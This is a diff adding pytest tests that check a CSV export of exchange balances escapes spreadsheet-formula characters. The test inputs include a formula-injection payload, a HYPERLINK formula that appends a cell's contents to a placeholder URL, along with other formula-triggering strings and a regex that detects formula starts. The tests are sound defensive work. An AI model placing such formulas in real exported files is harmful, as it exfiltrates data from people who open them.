@@ -3,7 +3,9 @@
 import csv
 import io
 import json
+import re
 
+import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
@@ -48,13 +50,50 @@ def test_zero_rows_come_only_when_asked_for() -> None:
         assert [line[1] for line in found[1:]] == expected
 
 
+# Where the comma is the decimal sign, a semicolon ends a cell.
+INERT = {
+    '=HYPERLINK("http://x/"&A1)': '\\u{3d}HYPERLINK("http://x/"&A1)',
+    "+1+1": "\\u{2b}1+1",
+    "-2+3": "\\u{2d}2+3",
+    "-x-order-7": "\\u{2d}x-order-7",
+    "@SUM(A1:A9)": "\\u{40}SUM(A1:A9)",
+    "  =1": "  \\u{3d}1",
+    "\t=1": "\\u{9}=1",
+    "\r=1": "\\u{d}=1",
+    "\uff1d1": "\\u{ff1d}1",
+    "a;=1;-1": "a;\\u{3d}1;\\u{2d}1",
+    "--1": "\\u{2d}-1",
+    "-": "\\u{2d}",
+}
+NUMBERS = ["-0.5", "0", "-0.00100000", "1E-7", "-12480.50318243", "Infinity"]
+PLAIN = ["BTCUSDT", "a=b", "x-order-7", "1000SHIB", "币安人生", "a; b"]
+
+
+@pytest.mark.parametrize("text", [*INERT, *NUMBERS, *PLAIN])
+def test_no_cell_is_a_formula_and_numbers_stay_numbers(text: str) -> None:
+    row = {"asset": text, "balance": "1", "accountAlias": {"a": f"x;{text}"}}
+    choice = Choice(fields=("asset", "accountAlias"))
+    (_, line) = read(sheet([balances(row)], (BALANCES,), choice))
+    assert line[1] == INERT.get(text, text)
+    assert not re.search(r"(^|[;\t\r]) *[=+@-](?![0-9.]+$)", line[2])
+
+
+def test_no_key_of_a_row_in_long_form_is_a_formula() -> None:
+    document: Row = {"assets": [{"asset": "=1", "walletBalance": "-1.0"}]}
+    answers = [Result("accountStatus", Market.USDM, 0, document, KINDS)]
+    assert ["usdm", "assets", "\\u{3d}1", "walletBalance", "-1.0"] in read(
+        sheet(answers, KINDS, Choice())
+    )
+
+
 @given(st.text(max_size=20))
 def test_any_text_comes_back_with_what_steers_a_terminal_escaped(text: str) -> None:
     row = {"asset": text, "balance": "1"}
     data = sheet([balances(row)], (BALANCES,), Choice(fields=("asset", "balance")))
     _, line = read(data)
-    escaped = UNSAFE.sub(lambda found: f"\\u{{{ord(found[0]):x}}}", text)
-    assert line == ["usdm", escaped, "1"]
+    told = re.sub(r"\\u\{([0-9a-f]+)\}", lambda found: chr(int(found[1], 16)), line[1])
+    assert [line[0], told, line[2]] == ["usdm", text, "1"]  # no digit or letter is lost
+    assert not UNSAFE.search(line[1])
     assert data.count(b"\n") == 2  # no text makes a line of its own
 
 
